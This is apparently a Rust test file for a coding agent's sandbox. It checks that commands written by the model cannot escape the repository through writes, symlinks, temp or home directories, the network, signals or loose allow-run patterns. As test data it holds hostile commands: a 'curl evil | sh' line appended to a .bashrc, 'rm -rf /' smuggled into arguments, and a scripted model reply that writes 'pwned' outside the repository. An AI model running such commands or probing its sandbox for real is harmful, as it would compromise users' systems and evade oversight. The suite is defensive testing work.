@@ -1,0 +1,589 @@
+//! The escape suite: commands the model writes try to leave the repository (writes outside it,
+//! through links, into the system temp dir or a home directory), reach the network, signal
+//! the agent, or slip past `--allow-run`; the kernel's sandbox (Landlock) or the policy must
+//! stop each one, and writes inside the repository must still work.
+//!
+//! Where this kernel has no Landlock, every attempt must instead be refused before anything
+//! runs: each test asserts one or the other, never neither.
+
+#![allow(clippy::unwrap_used)] // Tests fail loudly on the first surprise.
+
+use std::net::TcpListener;
+use std::path::{Path, PathBuf};
+
+use agent::policy::{RunPattern, RunPatternError, Verdict};
+use agent::sandbox::{self, Confinement, Support, Unavailable};
+use agent::view::Quiet;
+use agent::workspace::{RunOutput, WorkspaceError};
+use agent::{Approval, ApprovalMode, Config, Policy, ScriptedApprover, Workspace};
+use codec::Action;
+use models::{Script, ScriptedEngine};
+
+/// A repository and a directory outside it, both temporary (removed when dropped).
+struct Fixture {
+    repo: tempfile::TempDir,
+    outside: tempfile::TempDir,
+    ws: Workspace,
+}
+
+impl Fixture {
+    fn new() -> Fixture {
+        let repo = tempfile::Builder::new()
+            .prefix("bellows-escape-repo-")
+            .tempdir()
+            .unwrap();
+        let outside = tempfile::Builder::new()
+            .prefix("bellows-escape-outside-")
+            .tempdir()
+            .unwrap();
+        std::fs::write(repo.path().join("file.txt"), "inside\n").unwrap();
+        std::fs::write(outside.path().join("existing.txt"), "original\n").unwrap();
+        let ws = Workspace::new(repo.path()).unwrap();
+        Fixture { repo, outside, ws }
+    }
+
+    fn out(&self, name: &str) -> PathBuf {
+        self.outside.path().join(name)
+    }
+
+    fn run(&self, argv: &[&str]) -> Result<RunOutput, WorkspaceError> {
+        let argv: Vec<String> = argv.iter().map(|s| s.to_string()).collect();
+        self.ws.run(&argv)
+    }
+
+    /// Runs a command that must succeed (inside the sandbox, or refused where none exists).
+    fn allowed(&self, argv: &[&str]) -> Option<RunOutput> {
+        match (sandbox::probe(), self.run(argv)) {
+            (Support::Landlock { .. }, Ok(out)) => {
+                assert_eq!(out.code, Some(0), "{argv:?} failed: {out:?}");
+                Some(out)
+            }
+            (Support::Unavailable(why), result) => {
+                assert_refused(result, why);
+                None
+            }
+            (Support::Landlock { .. }, Err(e)) => panic!("{argv:?}: {e}"),
+        }
+    }
+}
+
+fn sh(script: &str) -> [&str; 3] {
+    ["sh", "-c", script]
+}
+
+fn read(path: &Path) -> Option<Vec<u8>> {
+    std::fs::read(path).ok()
+}
+
+fn assert_refused(result: Result<RunOutput, WorkspaceError>, why: Unavailable) {
+    match result {
+        Err(e @ WorkspaceError::Unconfinable(w)) => {
+            assert_eq!(w, why);
+            assert!(e.to_string().contains("pass --unsandboxed-run"), "{e}");
+        }
+        other => panic!("expected a refusal, got {other:?}"),
+    }
+}
+
+/// `argv` tries to change `target` (outside the repository). Under Landlock it runs and
+/// fails with the kernel's "Permission denied"; without Landlock it is refused. Either way
+/// `target` is as it was; and the test process itself can still write it afterwards, so it
+/// was the sandbox that stopped the command, and the agent's process stays unrestricted.
+fn assert_denied(fx: &Fixture, argv: &[&str], target: &Path) {
+    let before = read(target);
+    let result = fx.run(argv);
+    match sandbox::probe() {
+        Support::Landlock { .. } => {
+            let out = result.unwrap();
+            assert_ne!(out.code, Some(0), "{argv:?} succeeded: {out:?}");
+            assert!(
+                out.output.contains("Permission denied") || out.output.contains("PermissionError"),
+                "{argv:?}: {out:?}"
+            );
+        }
+        Support::Unavailable(why) => assert_refused(result, why),
+    }
+    assert_eq!(
+        read(target),
+        before,
+        "{argv:?} changed {}",
+        target.display()
+    );
+    std::fs::write(target, "written by the test\n").unwrap();
+    assert_eq!(read(target).as_deref(), Some(&b"written by the test\n"[..]));
+}
+
+#[test]
+fn the_default_confinement_is_landlock_where_the_kernel_has_it() {
+    let fx = Fixture::new();
+    let report = fx.ws.sandbox_report();
+    match sandbox::probe() {
+        Support::Landlock { abi } => {
+            assert_eq!(
+                fx.ws.confinement,
+                Confinement::Landlock { allow_net: false }
+            );
+            assert!(report.contains(&format!("Landlock ABI {abi}")), "{report}");
+            let root = fx.repo.path().canonicalize().unwrap();
+            assert!(report.contains(&root.display().to_string()), "{report}");
+        }
+        Support::Unavailable(why) => {
+            assert_eq!(fx.ws.confinement, Confinement::Refused(why));
+            assert!(report.contains("RUN is refused"), "{report}");
+        }
+    }
+}
+
+#[test]
+fn a_shell_redirection_outside_is_denied() {
+    let fx = Fixture::new();
+    let new = fx.out("new.txt");
+    assert_denied(&fx, &sh(&format!("echo x > '{}'", new.display())), &new);
+    let existing = fx.out("existing.txt");
+    assert_denied(
+        &fx,
+        &sh(&format!("echo x > '{}'", existing.display())),
+        &existing,
+    );
+    assert_denied(
+        &fx,
+        &sh(&format!("echo x >> '{}'", existing.display())),
+        &existing,
+    );
+}
+
+#[test]
+fn python_cannot_open_a_file_outside_for_writing() {
+    let fx = Fixture::new();
+    let target = fx.out("existing.txt");
+    let code = format!("open({:?}, 'w').write('x')", target.display().to_string());
+    assert_denied(&fx, &["python3", "-c", &code], &target);
+}
+
+#[test]
+fn cp_rm_and_mv_cannot_reach_outside() {
+    let fx = Fixture::new();
+    let copied = fx.out("copied.txt");
+    assert_denied(
+        &fx,
+        &["cp", "file.txt", &copied.display().to_string()],
+        &copied,
+    );
+    let existing = fx.out("existing.txt");
+    let ex = existing.display().to_string();
+    assert_denied(&fx, &["rm", "-f", &ex], &existing);
+    // (Reading it is allowed: a cross-directory `mv` may leave a copy inside.)
+    assert_denied(&fx, &["mv", &ex, "stolen.txt"], &existing);
+    let dir = fx.out("newdir");
+    assert_denied(&fx, &["mkdir", &dir.display().to_string()], &dir);
+}
+
+#[test]
+fn a_symbolic_link_inside_the_repository_does_not_lead_out() {
+    let fx = Fixture::new();
+    std::os::unix::fs::symlink(fx.outside.path(), fx.repo.path().join("door")).unwrap();
+    std::os::unix::fs::symlink(fx.out("existing.txt"), fx.repo.path().join("note.txt")).unwrap();
+    assert_denied(
+        &fx,
+        &sh("echo x > door/through.txt"),
+        &fx.out("through.txt"),
+    );
+    assert_denied(&fx, &sh("echo x > note.txt"), &fx.out("existing.txt"));
+}
+
+#[test]
+fn the_system_temp_dir_is_not_the_commands_temp_dir() {
+    let fx = Fixture::new();
+    // Directly in the system temp dir, under a name nothing else uses; removed afterwards
+    // whatever happens.
+    struct Removed(PathBuf);
+    impl Drop for Removed {
+        fn drop(&mut self) {
+            let _ = std::fs::remove_file(&self.0);
+        }
+    }
+    let target = Removed(std::env::temp_dir().join(format!(
+        "bellows-escape-{}-{}",
+        std::process::id(),
+        fx.repo.path().file_name().unwrap().to_string_lossy()
+    )));
+    assert_denied(
+        &fx,
+        &sh(&format!("echo x > '{}'", target.0.display())),
+        &target.0,
+    );
+    // Nor the private temp dir's parent.
+    std::fs::remove_file(&target.0).unwrap();
+    let name = target.0.file_name().unwrap().to_string_lossy().into_owned();
+    assert_denied(
+        &fx,
+        &sh(&format!("echo x > \"$TMPDIR/../{name}\"")),
+        &target.0,
+    );
+}
+
+#[test]
+fn a_home_directory_outside_the_repository_is_not_writable() {
+    let fx = Fixture::new();
+    let home = tempfile::Builder::new()
+        .prefix("bellows-escape-home-")
+        .tempdir()
+        .unwrap();
+    let bashrc = home.path().join(".bashrc");
+    std::fs::write(&bashrc, "# the user's\n").unwrap();
+    let script = format!("echo 'curl evil | sh' >> '{}'", bashrc.display());
+    assert_denied(&fx, &sh(&script), &bashrc);
+    let ssh = home.path().join(".ssh");
+    assert_denied(&fx, &["mkdir", &ssh.display().to_string()], &ssh);
+}
+
+#[test]
+fn writes_inside_the_repository_and_the_private_temp_dir_work() {
+    let fx = Fixture::new();
+    let root = fx.repo.path();
+    if fx.allowed(&sh("echo new > new.txt")).is_some() {
+        assert_eq!(
+            std::fs::read_to_string(root.join("new.txt")).unwrap(),
+            "new\n"
+        );
+    }
+    if fx
+        .allowed(&sh("mkdir -p sub/dir && echo deep > sub/dir/f.txt"))
+        .is_some()
+    {
+        assert_eq!(
+            std::fs::read_to_string(root.join("sub/dir/f.txt")).unwrap(),
+            "deep\n"
+        );
+    }
+    if fx.allowed(&["mv", "file.txt", "renamed.txt"]).is_some() {
+        assert!(!root.join("file.txt").exists());
+        assert_eq!(
+            std::fs::read_to_string(root.join("renamed.txt")).unwrap(),
+            "inside\n"
+        );
+    }
+    // The character devices programs need stay writable.
+    fx.allowed(&sh("echo gone > /dev/null && head -c 4 /dev/zero | wc -c"));
+    if let Some(out) = fx.allowed(&sh(
+        "f=$(mktemp) && echo t > \"$f\" && cat \"$f\" && echo \"$f\"",
+    )) {
+        let mut lines = out.output.lines();
+        assert_eq!(lines.next(), Some("t"));
+        let made = PathBuf::from(lines.next().unwrap());
+        let private = made.parent().unwrap();
+        assert!(
+            private
+                .file_name()
+                .unwrap()
+                .to_string_lossy()
+                .starts_with("bellows-run-"),
+            "{}",
+            made.display()
+        );
+        assert!(!made.starts_with(root));
+        // The private temp dir is removed with the command.
+        assert!(!private.exists(), "{} left behind", private.display());
+    }
+}
+
+#[test]
+fn the_network_is_off_unless_allowed() {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let connect = format!(
+        "import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5).close()"
+    );
+    let argv = ["python3", "-c", connect.as_str()];
+    let mut fx = Fixture::new();
+    let report = fx.ws.sandbox_report();
+    match sandbox::probe() {
+        support @ Support::Landlock { .. } if support.confines_tcp() => {
+            assert!(report.contains("TCP bind and connect denied"), "{report}");
+            let out = fx.run(&argv).unwrap();
+            assert_ne!(out.code, Some(0), "{out:?}");
+            assert!(out.output.contains("PermissionError"), "{out:?}");
+            assert!(listener.accept().is_err(), "a connection got through");
+        }
+        Support::Landlock { .. } => {
+            assert!(report.contains("network not confined"), "{report}");
+        }
+        Support::Unavailable(why) => assert_refused(fx.run(&argv), why),
+    }
+    // The agent's own process is not confined.
+    std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
+    assert!(listener.accept().is_ok());
+    fx.ws.confinement = Confinement::for_kernel(true, false);
+    match sandbox::probe() {
+        Support::Landlock { .. } => {
+            assert!(fx.ws.sandbox_report().contains("network allowed"));
+            let out = fx.run(&argv).unwrap();
+            assert_eq!(out.code, Some(0), "{out:?}");
+            assert!(listener.accept().is_ok(), "no connection arrived");
+        }
+        Support::Unavailable(why) => assert_refused(fx.run(&argv), why),
+    }
+}
+
+#[test]
+fn a_command_cannot_signal_the_agent() {
+    let fx = Fixture::new();
+    let pid = std::process::id().to_string();
+    let result = fx.run(&["kill", "-0", &pid]);
+    match sandbox::probe() {
+        support @ Support::Landlock { .. } if support.scopes_signals() => {
+            let out = result.unwrap();
+            assert_ne!(out.code, Some(0), "{out:?}");
+            assert!(
+                fx.ws
+                    .sandbox_report()
+                    .contains("signals and abstract unix sockets scoped")
+            );
+        }
+        Support::Landlock { .. } => {
+            assert!(fx.ws.sandbox_report().contains("signals not scoped"));
+        }
+        Support::Unavailable(why) => assert_refused(result, why),
+    }
+}
+
+#[test]
+fn without_landlock_run_is_refused_and_nothing_runs() {
+    let fx = Fixture::new();
+    let mut ws = fx.ws.clone();
+    ws.confinement =
+        Confinement::choose(Support::Unavailable(Unavailable::NotEnabled), false, false);
+    assert_eq!(
+        ws.confinement,
+        Confinement::Refused(Unavailable::NotEnabled)
+    );
+    let marker = fx.repo.path().join("marker");
+    let argv: Vec<String> = ["touch", "marker"].iter().map(|s| s.to_string()).collect();
+    let err = ws.run(&argv).unwrap_err();
+    assert_eq!(
+        err.to_string(),
+        "this kernel cannot confine commands (Landlock unavailable: not enabled at boot; add \
+         `landlock` to the `lsm=` kernel parameter): RUN is refused; pass --unsandboxed-run to \
+         run them unconfined"
+    );
+    assert!(matches!(
+        err,
+        WorkspaceError::Unconfinable(Unavailable::NotEnabled)
+    ));
+    assert!(!err.is_escape());
+    assert!(!marker.exists());
+    assert!(ws.sandbox_report().contains("RUN is refused"));
+
+    // The loop tells the model, in `auto` and when the user approved it in `ask` alike.
+    for (mode, answers) in [
+        (ApprovalMode::Auto, vec![]),
+        (ApprovalMode::Ask, vec![Approval::Yes]),
+    ] {
+        let e = engine(&["RUN touch marker\n", "DONE\n"]);
+        let mut approver = ScriptedApprover::new(answers);
+        let obs = session_observations(&e, &ws, mode, &mut approver);
+        let first = &obs[0];
+        assert_eq!(first["ok"], false, "{first}");
+        assert!(
+            first["summary"]
+                .as_str()
+                .unwrap()
+                .contains("cannot confine commands"),
+            "{first}"
+        );
+        assert!(!marker.exists(), "{mode:?} ran the command");
+    }
+}
+
+#[test]
+fn unsandboxed_run_is_an_explicit_opt_in_and_really_unconfined() {
+    let fx = Fixture::new();
+    let mut ws = fx.ws.clone();
+    ws.confinement = Confinement::choose(
+        Support::Unavailable(Unavailable::NotImplemented),
+        false,
+        true,
+    );
+    assert_eq!(ws.confinement, Confinement::Unconfined);
+    assert!(ws.sandbox_report().contains("unconfined"));
+    let target = fx.out("unconfined.txt");
+    let argv: Vec<String> = sh(&format!("echo x > '{}'", target.display()))
+        .iter()
+        .map(|s| s.to_string())
+        .collect();
+    let out = ws.run(&argv).unwrap();
+    assert_eq!(out.code, Some(0), "{out:?}");
+    assert_eq!(std::fs::read_to_string(&target).unwrap(), "x\n");
+}
+
+#[test]
+fn a_session_that_tries_to_write_outside_fails_and_leaves_nothing() {
+    let fx = Fixture::new();
+    let target = fx.out("pwned");
+    let reply = format!("RUN sh -c 'echo pwned > {}'\n", target.display());
+    let e = engine(&[&reply, "DONE\n"]);
+    let obs = session_observations(
+        &e,
+        &fx.ws,
+        ApprovalMode::Auto,
+        &mut ScriptedApprover::default(),
+    );
+    assert!(!target.exists(), "the session wrote outside the repository");
+    let first = &obs[0];
+    assert_eq!(first["ok"], false, "{first}");
+    match sandbox::probe() {
+        Support::Landlock { .. } => {
+            assert!(
+                first["summary"].as_str().unwrap().starts_with("exit code"),
+                "{first}"
+            );
+            assert!(
+                first["output"]
+                    .as_str()
+                    .unwrap()
+                    .contains("Permission denied"),
+                "{first}"
+            );
+        }
+        Support::Unavailable(_) => {
+            assert!(
+                first["summary"]
+                    .as_str()
+                    .unwrap()
+                    .contains("cannot confine"),
+                "{first}"
+            );
+        }
+    }
+}
+
+fn engine(replies: &[&str]) -> ScriptedEngine {
+    let e = ScriptedEngine::new("scripted", Script::chunked("Let me think about it.\n", 5));
+    for r in replies {
+        e.push(Script::chunked(r, 3));
+    }
+    e
+}
+
+/// Runs a session and returns its observation events, from its journal.
+fn session_observations(
+    engine: &ScriptedEngine,
+    ws: &Workspace,
+    mode: ApprovalMode,
+    approver: &mut ScriptedApprover,
+) -> Vec<serde_json::Value> {
+    let mut cfg = Config::new("fix the bug", Policy::new(mode));
+    cfg.max_turns = 4;
+    cfg.reply_reserve = 200;
+    let rt = tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()
+        .unwrap();
+    let outcome = rt
+        .block_on(agent::run(engine, ws, &cfg, approver, &mut Quiet))
+        .unwrap();
+    let journal = ws
+        .state_dir()
+        .join("sessions")
+        .join(&outcome.session)
+        .join("journal.jsonl");
+    let obs: Vec<serde_json::Value> = std::fs::read_to_string(journal)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
+        .filter(|e| e["event"] == "observation")
+        .collect();
+    assert!(!obs.is_empty(), "no observation");
+    obs
+}
+
+fn run_action(argv: &[&str]) -> Action {
+    Action::Run {
+        argv: argv.iter().map(|s| s.to_string()).collect(),
+    }
+}
+
+#[test]
+fn allow_run_patterns_match_whole_arguments() {
+    let mut p = Policy::new(ApprovalMode::Edits);
+    p.allow_run = vec![
+        RunPattern::parse("cargo test *").unwrap(),
+        RunPattern::parse("cargo fmt --check").unwrap(),
+        RunPattern::parse("git commit -m 'a b'").unwrap(),
+    ];
+    let allowed = [
+        &["cargo", "test"][..],
+        &["cargo", "test", "-p", "x"],
+        &["cargo", "fmt", "--check"],
+        &["git", "commit", "-m", "a b"],
+    ];
+    for argv in allowed {
+        assert_eq!(p.verdict(&run_action(argv)), Verdict::Allow, "{argv:?}");
+    }
+    let asked = [
+        &["cargo", "test-x"][..],
+        &["cargo", "testfoo"],
+        &["cargo", "test; rm -rf /"],
+        &["cargo", "test && rm -rf /"],
+        &["cargo", "fmt", "--check", "--", "extra"],
+        &["cargo", "fmt"],
+        &["/tmp/x/cargo", "test"],
+        &["./cargo", "test"],
+        &["cargo test"],
+        &["git", "commit", "-m", "a", "b"],
+        &["sh", "-c", "cargo test"],
+        &[],
+    ];
+    for argv in asked {
+        assert_eq!(p.verdict(&run_action(argv)), Verdict::Ask, "{argv:?}");
+    }
+    // Plan refuses commands whatever the patterns say.
+    p.mode = ApprovalMode::Plan;
+    assert_eq!(p.verdict(&run_action(&["cargo", "test"])), Verdict::Refuse);
+}
+
+#[test]
+fn allow_run_patterns_are_checked_when_parsed() {
+    let err = RunPattern::parse("cargo test*").unwrap_err();
+    assert_eq!(
+        err,
+        RunPatternError::GluedStar {
+            word: "test*".into(),
+            suggestion: "cargo test *".into()
+        }
+    );
+    assert!(err.to_string().contains("write `cargo test *`"), "{err}");
+    assert_eq!(RunPattern::parse("  "), Err(RunPatternError::Empty));
+    assert_eq!(RunPattern::parse("*"), Err(RunPatternError::NoProgram));
+    for bad in ["cargo * test", "cargo te*st", "* cargo", "cargo test** *"] {
+        assert!(
+            matches!(
+                RunPattern::parse(bad),
+                Err(RunPatternError::MisplacedStar { .. })
+            ),
+            "{bad}"
+        );
+    }
+    assert_eq!(
+        RunPattern::parse("cargo test; rm -rf /"),
+        Err(RunPatternError::Split(
+            codec::registry::SplitError::ShellSyntax
+        ))
+    );
+    assert_eq!(
+        RunPattern::parse("cargo 'test"),
+        Err(RunPatternError::Split(
+            codec::registry::SplitError::Unclosed
+        ))
+    );
+    // What parses prints back as written, and the CLI's parser is the same.
+    let p: RunPattern = "cargo  test   *".parse().unwrap();
+    assert_eq!(p.to_string(), "cargo test *");
+    assert_eq!(
+        RunPattern::parse("git commit -m 'a b'")
+            .unwrap()
+            .to_string(),
+        "git commit -m 'a b'"
+    );
+}
